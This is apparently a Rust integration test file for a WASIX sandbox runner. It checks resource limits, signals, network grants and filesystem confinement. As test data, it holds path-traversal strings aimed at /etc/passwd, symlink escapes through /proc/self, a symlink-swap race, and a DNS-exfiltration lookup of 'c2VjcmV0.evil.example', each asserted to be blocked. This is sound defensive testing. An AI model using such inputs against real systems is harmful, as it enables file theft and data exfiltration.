//! WASIX modules through the real shim, agent and runner: what they can do, and what they cannot.

use std::fs;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use rustix::fs::{CWD, RenameFlags, renameat_with};
use rustix::process::Signal;
use warmstep_tests::{Agent, Ended, Step};

use crate::guests;
use crate::wasix_guests::{self as wasix, errno};

fn step(agent: &Agent, name: &str, wasm: &[u8]) -> Step {
    let path = agent.scratch().join(format!("{name}.wasm"));
    fs::write(&path, wasm).unwrap();
    agent.step(path)
}

#[track_caller]
fn ended(ended: &Ended, code: i32, out: &str) {
    assert_eq!((ended.code, ended.out().as_str()), (code, out), "{}", ended.err());
}

/// A server on loopback that answers `pong` to whoever sends something.
struct Server {
    address: SocketAddrV4,
    connections: Arc<AtomicUsize>,
}

impl Server {
    fn start() -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let SocketAddr::V4(address) = listener.local_addr().unwrap() else { unreachable!() };
        let connections = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&connections);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                counter.fetch_add(1, Ordering::SeqCst);
                let mut received = [0; 16];
                if matches!(stream.read(&mut received), Ok(length) if length > 0) {
                    let _ = stream.write_all(b"pong");
                }
            }
        });
        Self { address, connections }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

#[test]
fn a_step_ends_as_a_preview_1_step_does() {
    let agent = Agent::builder().start().unwrap();
    ended(&step(&agent, "hello", &wasix::says("hello", 0, 0)).run().unwrap(), 0, "hello\n");
    ended(&step(&agent, "seven", &wasix::says("seven", 0, 7)).run().unwrap(), 7, "seven\n");

    let trapped = step(&agent, "traps", &wasix::traps()).run().unwrap();
    let error = trapped.err();
    assert_eq!(trapped.code, 134, "{error}");
    assert!(error.contains("very_deep (function "), "{error}");
    let last = error.lines().last().unwrap();
    assert!(last.contains("unreachable instruction"), "{error}");

    let late = step(&agent, "spins", &wasix::spins()).flag("--timeout").flag("300ms");
    let late = late.run().unwrap();
    assert_eq!(late.code, 124, "{}", late.err());
    assert!(late.err().contains("limit of 300 ms (see --timeout)"), "{}", late.err());

    // 256 pages are 16 MiB; with the two that there are they are more.
    let grows = wasix::grows(256);
    ended(&step(&agent, "grows", &grows).flag("--memory").flag("32Mi").run().unwrap(), 0, "");
    let full = step(&agent, "grows", &grows).flag("--memory").flag("16Mi").run().unwrap();
    assert_eq!(full.code, 3, "{}", full.err());
    assert!(full.err().contains("limit of 16 MiB (see --memory)"), "{}", full.err());

    let codes: Vec<_> = agent.records(6).unwrap().iter().map(|record| record.code).collect();
    assert_eq!(codes, [0, 7, 134, 124, 0, 3].map(Some));
}

#[test]
fn signals_end_a_step_at_once() {
    let agent = Agent::builder().start().unwrap();
    for (signal, code) in [(Signal::TERM, 143), (Signal::INT, 130)] {
        for (name, wasm) in [("sleeps", wasix::says("x", 60_000, 0)), ("spins", wasix::spins())] {
            let running = step(&agent, name, &wasm).start().unwrap();
            // It is the runner's once its threads are there.
            let tasks = format!("/proc/{}/task", running.pid().as_raw_nonzero());
            let deadline = std::time::Instant::now() + Duration::from_secs(60);
            while fs::read_dir(&tasks).unwrap().count() < 3 {
                assert!(std::time::Instant::now() < deadline, "it does not start");
                std::thread::sleep(Duration::from_millis(5));
            }
            running.signal(signal).unwrap();
            let ended = running.wait().unwrap();
            assert_eq!(ended.code, code, "{name}: {}", ended.err());
        }
    }
}

#[test]
fn threads_share_a_memory_and_its_limit() {
    let agent = Agent::builder().start().unwrap();
    ended(&step(&agent, "two", &wasix::threads(2, "")).run().unwrap(), 0, "all\n");
    ended(&step(&agent, "fifty", &wasix::threads(50, "")).run().unwrap(), 0, "all\n");

    // A trap of any thread is the step's.
    let trapped = step(&agent, "trap", &wasix::threads(2, "unreachable")).run().unwrap();
    assert_eq!(trapped.code, 134, "{}", trapped.err());
    // So is an exit.
    let exits = wasix::threads(2, "(call $exit (i32.const 9))");
    assert_eq!(step(&agent, "exits", &exits).run().unwrap().code, 9);

    // What a shared memory may become is counted when it is made, and is no more than there is.
    let grows = wasix::grows_shared(65_536, 400);
    ended(&step(&agent, "shared", &grows).flag("--memory").flag("32Mi").run().unwrap(), 0, "");
    let full = step(&agent, "shared", &grows).flag("--memory").flag("16Mi").run().unwrap();
    assert_eq!(full.code, 3, "{}", full.err());
    assert!(full.err().contains("limit of 16 MiB (see --memory)"), "{}", full.err());
    let small = wasix::grows_shared(65_536, 0);
    let none = step(&agent, "small", &small).flag("--memory").flag("64Ki").run().unwrap();
    assert_eq!(none.code, 126, "{}", none.err());
}

/// More threads than there may be at once are an error for the module, and no hang.
#[test]
fn threads_are_bounded() {
    let agent = Agent::builder().start().unwrap();
    let also = "(drop (call $sleep (i64.const 20000000000)))";
    let many = step(&agent, "many", &wasix::threads(300, also)).deadline(Duration::from_secs(60));
    let many = many.run().unwrap();
    assert_ne!(many.code, 0, "{}", many.err());
    ended(&step(&agent, "hello", &wasix::says("hello", 0, 0)).run().unwrap(), 0, "hello\n");
}

#[test]
fn pipes_carry() {
    let agent = Agent::builder().start().unwrap();
    ended(&step(&agent, "pipes", &wasix::pipes()).run().unwrap(), 0, "through\n");
}

/// Forking needs a module that can unwind its stack (Binaryen's `--asyncify`).
#[test]
fn a_fork_of_a_module_that_was_not_built_for_it_is_an_error() {
    let agent = Agent::builder().start().unwrap();
    let forked = step(&agent, "forks", &wasix::forks()).run().unwrap();
    assert_ne!(forked.code, 0, "{}", forked.err());
    assert!(!forked.err().contains("internal failure"), "{}", forked.err());
}

#[test]
fn a_granted_address_is_reached_and_no_other() {
    let agent = Agent::builder().start().unwrap();
    let (granted, other) = (Server::start(), Server::start());
    let net = |step: Step, address: &str| step.flag("--net").flag(address);
    let address = granted.address.to_string();

    let talks = net(step(&agent, "granted", &wasix::connects(granted.address)), &address);
    ended(&talks.run().unwrap(), 0, "pong");
    assert_eq!(granted.connections(), 1);

    // Another port of the same host, the same port of another host, and nothing granted at all.
    let port = net(step(&agent, "port", &wasix::connects(other.address)), &address);
    let port = port.run().unwrap();
    assert_eq!(port.code, errno::PERM, "{}", port.err());
    assert!(port.err().contains("was not granted (see --net)"), "{}", port.err());
    let elsewhere = SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 2), granted.address.port());
    let host = net(step(&agent, "host", &wasix::connects(elsewhere)), &address).run().unwrap();
    assert_eq!(host.code, errno::PERM, "{}", host.err());
    let none = step(&agent, "none", &wasix::connects(granted.address)).run().unwrap();
    assert_eq!(none.code, errno::NOTSUP, "{}", none.err());
    assert_eq!((granted.connections(), other.connections()), (1, 0));

    // Connecting is all that is granted.
    let listens = net(step(&agent, "listens", &wasix::listens(elsewhere)), &address);
    assert_eq!(listens.run().unwrap().code, errno::PERM);
    let datagrams = net(step(&agent, "datagrams", &wasix::sends_datagrams(elsewhere)), &address);
    assert_eq!(datagrams.run().unwrap().code, errno::PERM);
}

#[test]
fn names_are_resolved_as_the_pod_does_and_only_those_granted() {
    let agent = Agent::builder().start().unwrap();
    let server = Server::start();
    let port = server.address.port();
    let net = |step: Step, address: &str| step.flag("--net").flag(address);

    let by_name = wasix::connects_by_name("localhost", port);
    let granted = net(step(&agent, "name", &by_name), &format!("localhost:{port}"));
    ended(&granted.run().unwrap(), 0, "connected\n");
    // The address that the name leads to, without asking for the name first.
    let at_once = wasix::connects(server.address);
    let direct = net(step(&agent, "direct", &at_once), &format!("localhost:{port}"));
    ended(&direct.run().unwrap(), 0, "pong");
    // Another port of the name's, and a name that was not granted.
    let elsewhere = net(step(&agent, "elsewhere", &by_name), "localhost:9");
    assert_eq!(elsewhere.run().unwrap().code, errno::PERM);
    let secret = wasix::resolves("c2VjcmV0.evil.example");
    let secret = net(step(&agent, "secret", &secret), &format!("localhost:{port}"));
    let secret = secret.run().unwrap();
    assert_eq!(secret.code, errno::PERM, "{}", secret.err());
    let none = step(&agent, "nothing", &wasix::resolves("localhost")).run().unwrap();
    assert_eq!(none.code, errno::NOTSUP, "{}", none.err());
}

#[test]
fn the_operator_decides_on_wasix_and_on_addresses() {
    let refused = |ended: &Ended, said: &str| {
        assert_eq!(ended.code, 126, "{}", ended.err());
        assert!(ended.err().contains(said), "{}", ended.err());
    };
    let off = Agent::builder().tables("[policy]\nwasix = false").start().unwrap();
    let hello = wasix::says("hello", 0, 0);
    refused(&step(&off, "hello", &hello).run().unwrap(), "policy.wasix");
    let preview1 = guests::says("hello");
    ended(&step(&off, "old", &preview1).run().unwrap(), 0, "hello\n");
    let net = step(&off, "old", &preview1).flag("--net").flag("a:1").run().unwrap();
    refused(&net, "policy.wasix");

    let some = "[policy]\nnetwork = [\"*.example:443\"]";
    let some = Agent::builder().tables(some).start().unwrap();
    let net =
        |address: &str| step(&some, "hello", &hello).flag("--net").flag(address).run().unwrap();
    refused(&net("10.0.0.1:443"), "policy.network");
    ended(&net("api.example:443"), 0, "hello\n");
    let old = step(&some, "old", &preview1).flag("--net").flag("api.example:443").run().unwrap();
    refused(&old, "preview 1 cannot open connections");

    let missing = Agent::builder().argument("--wasix-runner").argument("/nowhere").start().unwrap();
    refused(&step(&missing, "hello", &hello).run().unwrap(), "does not have");
    ended(&step(&missing, "old", &preview1).run().unwrap(), 0, "hello\n");
}

/// A granted directory with a file, and a secret beside it.
struct Tree {
    granted: PathBuf,
    secret: PathBuf,
}

impl Tree {
    fn new(agent: &Agent) -> Self {
        let granted = agent.scratch().join("granted");
        let secret = agent.scratch().join("secret");
        fs::create_dir_all(granted.join("sub")).unwrap();
        fs::create_dir_all(&secret).unwrap();
        fs::write(granted.join("file"), "granted").unwrap();
        fs::write(granted.join("sub/file"), "below").unwrap();
        fs::write(secret.join("file"), "secret").unwrap();
        Self { granted, secret }
    }
}

#[test]
fn files_are_read_and_written_beneath_a_grant() {
    let agent = Agent::builder().start().unwrap();
    let tree = Tree::new(&agent);
    let run = |name: &str, wasm: &[u8]| {
        step(&agent, name, wasm).directory(&tree.granted, "/work").run().unwrap()
    };
    ended(&run("reads", &wasix::reads("work/file")), 0, "granted");
    ended(&run("below", &wasix::reads("work/sub/file")), 0, "below");
    ended(&run("up", &wasix::reads("work/sub/../file")), 0, "granted");
    ended(&run("writes", &wasix::writes("work/new", "one", 1, 0)), 0, "");
    assert_eq!(fs::read(tree.granted.join("new")).unwrap(), b"one");
    ended(&run("appends", &wasix::writes("work/new", " two", 0, 1)), 0, "");
    assert_eq!(fs::read(tree.granted.join("new")).unwrap(), b"one two");
    ended(&run("truncates", &wasix::writes("work/new", "3", 8, 0)), 0, "");
    assert_eq!(fs::read(tree.granted.join("new")).unwrap(), b"3");

    ended(&run("mkdir", &wasix::changes("mkdir", "work/made", "")), 0, "");
    assert!(tree.granted.join("made").is_dir());
    ended(&run("rename", &wasix::changes("rename", "work/new", "work/made/moved")), 0, "");
    assert_eq!(fs::read(tree.granted.join("made/moved")).unwrap(), b"3");
    ended(&run("symlink", &wasix::changes("symlink", "file", "work/to")), 0, "");
    assert_eq!(fs::read_link(tree.granted.join("to")).unwrap(), Path::new("file"));
    ended(&run("follows", &wasix::reads("work/to")), 0, "granted");
    // wasmer-wasix would only pretend to.
    let linked = run("link", &wasix::changes("link", "work/file", "work/linked"));
    assert_eq!(linked.code, errno::NOTSUP, "{}", linked.err());
    ended(&run("unlink", &wasix::changes("unlink", "work/made/moved", "")), 0, "");
    ended(&run("rmdir", &wasix::changes("rmdir", "work/made", "")), 0, "");
    assert!(!tree.granted.join("made").exists());
}

/// F1, F3: whatever a path says and whatever links are there, nothing outside is read.
#[test]
fn no_path_leads_out_of_a_grant() {
    let agent = Agent::builder().start().unwrap();
    let tree = Tree::new(&agent);
    let granted = &tree.granted;
    let outside = tree.secret.join("file");
    let link = |name: &str, to: &str| symlink(to, granted.join(name)).unwrap();
    link("absolute", outside.to_str().unwrap());
    link("relative", "../secret/file");
    link("directory", "../secret");
    link("up", "..");
    link("chain", "sub/next");
    link("sub/next", "../relative");
    link("self", "/proc/self/root");
    link("number", "/proc/self/fd/3");
    link("working", "/proc/self/cwd");
    let outside = outside.to_str().unwrap();
    for path in [
        "work/../secret/file",
        "work/sub/../../secret/file",
        "../../../../../../../../../../../../etc/passwd",
        "/etc/passwd",
        outside,
        "work/absolute",
        "work/relative",
        "work/directory/file",
        "work/up/secret/file",
        "work/chain",
        "work/self/etc/passwd",
        "work/number",
        "work/working/file",
        "work/absolute/",
    ] {
        let read = step(&agent, "reads", &wasix::reads(path)).directory(granted, "/work");
        let read = read.run().unwrap();
        assert_ne!(read.code, 0, "{path}: {}", read.out());
        assert_eq!(read.out(), "", "{path}");
        assert!(!read.err().contains("internal failure"), "{path}: {}", read.err());
    }
    // Nor is anything made there.
    for path in ["work/../made", "work/up/made", "work/directory/made", "made"] {
        let write = step(&agent, "writes", &wasix::writes(path, "x", 1, 0));
        let write = write.directory(granted, "/work").run().unwrap();
        assert_ne!(write.code, 0, "{path}");
    }
    assert!(!agent.scratch().join("made").exists() && !tree.secret.join("made").exists());
}

/// F2: a directory that is exchanged for a link again and again, while it is read through.
#[test]
fn an_exchanged_directory_leads_nowhere_else() {
    let agent = Agent::builder().start().unwrap();
    let tree = Tree::new(&agent);
    symlink("../secret", tree.granted.join("link")).unwrap();
    let (one, two) = (tree.granted.join("sub"), tree.granted.join("link"));
    let stop = Arc::new(AtomicBool::new(false));
    let stopped = Arc::clone(&stop);
    let exchanger = std::thread::spawn(move || {
        while !stopped.load(Ordering::Relaxed) {
            renameat_with(CWD, &one, CWD, &two, RenameFlags::EXCHANGE).unwrap();
        }
    });
    let wasm = wasix::reads_again_and_again("work/sub/file", 20_000);
    let mut seen = 0;
    for _ in 0..5 {
        let read = step(&agent, "again", &wasm).readable(&tree.granted, "/work").run().unwrap();
        let out = read.out();
        assert!(!out.contains("secret"), "it was led out");
        assert!(!read.err().contains("internal failure"), "{}", read.err());
        seen += out.len() / "below".len();
    }
    stop.store(true, Ordering::Relaxed);
    exchanger.join().unwrap();
    println!("{seen} of 100000 reads found the file");
    assert!(seen > 0, "nothing was ever read");
}

/// F4: what is no file is refused, and does not hang.
#[test]
fn special_files_are_refused() {
    let agent = Agent::builder().start().unwrap();
    let tree = Tree::new(&agent);
    let mode = rustix::fs::Mode::from_raw_mode(0o600);
    let fifo = tree.granted.join("fifo");
    rustix::fs::mknodat(CWD, &fifo, rustix::fs::FileType::Fifo, mode, 0).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(tree.granted.join("socket")).unwrap();
    for path in ["work/fifo", "work/socket"] {
        let read = step(&agent, "reads", &wasix::reads(path)).directory(&tree.granted, "/work");
        let read = read.deadline(Duration::from_secs(30)).run().unwrap();
        assert_ne!(read.code, 0, "{path}");
        assert!(!read.err().contains("internal failure"), "{path}: {}", read.err());
    }
}

/// F9: nothing beneath a read-only grant changes.
#[test]
fn a_read_only_grant_stays_as_it_is() {
    let agent = Agent::builder().start().unwrap();
    let tree = Tree::new(&agent);
    let run = |name: &str, wasm: &[u8]| {
        let other = agent.scratch().join("other");
        fs::create_dir_all(&other).unwrap();
        let step = step(&agent, name, wasm).readable(&tree.granted, "/work");
        step.directory(other, "/other").run().unwrap()
    };
    ended(&run("reads", &wasix::reads("work/file")), 0, "granted");
    for (name, wasm) in [
        ("writes", wasix::writes("work/file", "x", 0, 0)),
        ("creates", wasix::writes("work/new", "x", 1, 0)),
        ("truncates", wasix::writes("work/file", "", 8, 0)),
        ("appends", wasix::writes("work/file", "x", 0, 1)),
        ("mkdir", wasix::changes("mkdir", "work/made", "")),
        ("rmdir", wasix::changes("rmdir", "work/sub", "")),
        ("unlink", wasix::changes("unlink", "work/file", "")),
        ("renames", wasix::changes("rename", "work/file", "work/moved")),
        ("takes", wasix::changes("rename", "work/file", "other/file")),
        ("links", wasix::changes("link", "work/file", "other/linked")),
        ("symlinks", wasix::changes("symlink", "file", "work/to")),
    ] {
        let changed = run(name, &wasm);
        assert_ne!(changed.code, 0, "{name}: {}", changed.err());
        assert!(!changed.err().contains("internal failure"), "{name}: {}", changed.err());
    }
    let names: Vec<_> = fs::read_dir(&tree.granted).unwrap().collect();
    assert_eq!(names.len(), 2, "{names:?}");
    assert_eq!(fs::read(tree.granted.join("file")).unwrap(), b"granted");
    assert_eq!(fs::read(tree.granted.join("sub/file")).unwrap(), b"below");
    // Nor does the root, in which there is nothing but what was granted.
    assert_ne!(run("root", &wasix::writes("new", "x", 1, 0)).code, 0);
    assert_eq!(run("absent", &wasix::reads("absent")).code, errno::NOENT);
}
